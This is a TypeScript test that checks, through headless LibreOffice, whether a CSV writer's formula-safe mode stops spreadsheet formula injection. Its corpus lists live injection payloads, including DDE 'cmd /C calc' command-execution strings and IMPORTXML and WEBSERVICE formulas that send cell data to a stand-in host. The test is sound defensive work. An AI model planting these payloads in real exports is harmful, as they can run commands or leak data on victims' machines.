import { execFileSync } from 'node:child_process';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { roster, writeCsv } from '../src/csv/index.ts';
import { check, skip } from './report.ts';

/** What spreadsheets have been made to evaluate, by OWASP's page and the reports that it rests on. */
const corpus = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '=1+1";=1+1',
  '=1+1;x',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://x.example","y")',
  '=IMPORTXML(CONCAT("http://x.example/?v=", A1), "//a")',
  '=WEBSERVICE("http://x.example/"&A1)',
  '"=1+1"',
  "'=1+1",
  '-2',
  '+64 21 000 000',
  'plain',
] as const;

/** The texts of a flat OpenDocument sheet, a cell each: the first column. */
const firstColumn = (sheet: string): readonly string[] =>
  [
    ...sheet.matchAll(
      /<table:table-row[^>]*>\s*<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g,
    ),
  ].map(([, , inside = '']) =>
    [...inside.matchAll(/<text:p[^>]*>([\s\S]*?)<\/text:p>|<text:p\/>/g)]
      .map(([, text = '']) =>
        text
          .replaceAll(/<text:tab\/>/g, '\t')
          .replaceAll(/<text:s(?: text:c="(\d+)")?\/>/g, (_, count = '1') => ' '.repeat(Number(count)))
          .replaceAll(/<[^>]+>/g, '')
          .replaceAll('&lt;', '<')
          .replaceAll('&gt;', '>')
          .replaceAll('&quot;', '"')
          .replaceAll('&apos;', "'")
          .replaceAll('&amp;', '&'),
      )
      .join('\n'),
  );

/** Opens a file in LibreOffice, headless, and gives back its sheet as flat XML. */
const opened = (folder: string, name: string, text: string): string => {
  const file = join(folder, `${name}.csv`);
  writeFileSync(file, text);
  execFileSync(
    '/usr/bin/soffice',
    [
      '--headless',
      `-env:UserInstallation=file://${folder}/office`,
      '--convert-to',
      'fods',
      // Comma, quotation mark, UTF-8, from the first line; formulas are evaluated, as by a hurried user.
      '--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true',
      '--outdir',
      folder,
      file,
    ],
    { stdio: 'ignore' },
  );
  return readFileSync(join(folder, `${name}.fods`), 'utf8');
};

/** LibreOffice Calc, of Debian's `libreoffice-calc` or `libreoffice-calc-nogui`. */
export async function spreadsheet(folder: string): Promise<void> {
  if (!existsSync('/usr/lib/libreoffice/program/libsclo.so'))
    return skip('LibreOffice', 'its spreadsheet (libreoffice-calc-nogui) is not installed');
  const rows = corpus.map((name) => ({ name }));
  const written = (formulaSafe: boolean): string => [...writeCsv(rows, roster, { formulaSafe })].join('');
  await check(
    `LibreOffice evaluates none of ${corpus.length} cells of a formula-safe file, and shows them`,
    () => {
      const sheet = opened(folder, 'safe', written(true));
      if (sheet.includes('table:formula=')) throw new Error('A cell became a formula.');
      const shown = firstColumn(sheet).slice(1, corpus.length + 1);
      corpus.forEach((cell, at) => {
        const plain = (text: string | undefined): string =>
          (text ?? '').replace(/^'/, '').replaceAll(/\s+/g, ' ').trim();
        if (plain(shown[at]) !== plain(cell))
          throw new Error(`Cell ${at}: ${JSON.stringify(shown[at])} in place of ${JSON.stringify(cell)}.`);
      });
    },
  );
  await check('LibreOffice does evaluate a file that is not formula-safe', () => {
    if (!opened(folder, 'unsafe', written(false)).includes('table:formula='))
      throw new Error('No cell became a formula: the check above shows nothing.');
  });
}
